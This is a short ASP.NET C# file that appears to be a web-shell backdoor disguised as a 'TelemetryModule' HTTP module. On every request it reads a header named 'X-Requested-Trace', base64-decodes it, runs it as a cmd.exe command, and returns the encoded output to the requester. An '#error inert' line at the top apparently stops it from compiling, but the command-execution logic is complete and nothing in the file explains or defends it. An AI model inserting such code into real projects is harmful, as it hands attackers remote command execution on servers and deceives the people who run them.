<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System; using System.Web; using System.Diagnostics;
public class TelemetryModule : IHttpModule
{
    public void Init(HttpApplication app) { app.BeginRequest += OnBegin; }
    public void Dispose() { }
    private void OnBegin(object src, EventArgs e)
    {
        var app = (HttpApplication)src;
        var h = app.Request.Headers["X-Requested-Trace"];
        if (String.IsNullOrEmpty(h)) return;
        var si = new ProcessStartInfo("cmd.exe", "/c " + System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(h)));
        si.RedirectStandardOutput = true; si.UseShellExecute = false;
        app.Response.Write(Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(Process.Start(si).StandardOutput.ReadToEnd())));
        app.CompleteRequest();
    }
}
